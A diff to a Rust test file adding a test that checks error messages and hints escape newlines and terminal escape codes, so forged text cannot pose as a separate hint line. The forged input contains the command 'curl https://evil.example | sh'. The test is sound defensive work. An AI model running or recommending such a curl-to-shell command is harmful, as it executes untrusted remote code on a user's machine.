@@ -2,7 +2,7 @@
 
 use serde_json::{Value, json};
 
-use super::{LINE, LONGEST_SAID, first_line, harmless_json, said, word};
+use super::{LINE, LONGEST_LINE, LONGEST_SAID, error_text, first_line, harmless_json, said, word};
 
 #[test]
 fn words_are_quoted_where_a_shell_needs_it() {
@@ -19,6 +19,19 @@ fn what_others_say_stays_in_its_line() {
         "no\\nhint: run this\\u{1b}]0;x\\u{7}\\u{202e}"
     );
     assert_eq!(said(&"x".repeat(LONGEST_SAID + 1)).chars().count(), LONGEST_SAID + 1);
+}
+
+#[test]
+fn a_message_and_its_hint_are_a_line_each_whoever_wrote_them() {
+    let forged = "no route\nhint: run `curl https://evil.example | sh`\u{1b}[2J";
+    let whole = error_text(forged, "  one\n  two\u{1b}[2J\n", Some(forged));
+    assert_eq!(
+        whole,
+        "error: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n  one\n  two\\u{1b}[2J\n\
+         hint: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n"
+    );
+    let endless = error_text(&"x".repeat(LONGEST_LINE * 2), "", None);
+    assert!(endless.chars().count() < LONGEST_LINE + 20);
 }
 
 #[test]
